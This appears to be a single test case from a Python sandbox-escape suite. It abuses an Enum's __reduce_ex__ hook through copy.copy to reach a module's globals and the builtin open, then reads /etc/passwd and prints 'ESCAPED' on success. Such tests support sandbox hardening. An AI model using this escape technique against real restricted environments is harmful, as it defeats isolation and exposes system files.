# tries: an Enum's reduce hook in the hands of copy
# class: reduce
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import copy
import enum
import json


class E(enum.Enum):
    a = 1

    def __reduce_ex__(self, protocol):
        return getattr, (json.dumps, "__globals__")

    __deepcopy__ = None
    __copy__ = None


use(dig(copy.copy(E.a)))
